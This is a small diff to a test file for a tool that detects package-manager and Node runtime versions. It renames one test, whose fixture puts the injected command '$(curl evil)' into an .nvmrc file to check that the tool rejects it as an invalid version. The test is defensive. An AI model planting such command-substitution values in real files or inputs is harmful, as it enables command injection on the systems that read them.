@@ -73,7 +73,7 @@ describe('versions of package managers', () => {
   ])('%o', async (files, expected) => expect(await versions(files as Record<string, string | object>)).toEqual(expected))
 })
 
-test('what cannot be a version is said and left out', async () => {
+test('an invalid version is reported and ignored', async () => {
   const { runtimeVersion, warnings } = await detectFolder(await temporaryFolder({ '.nvmrc': '$(curl evil)\n', 'index.html': '' }))
   expect([runtimeVersion, warnings]).toEqual([{}, ['.nvmrc contains no valid version of node']])
 })
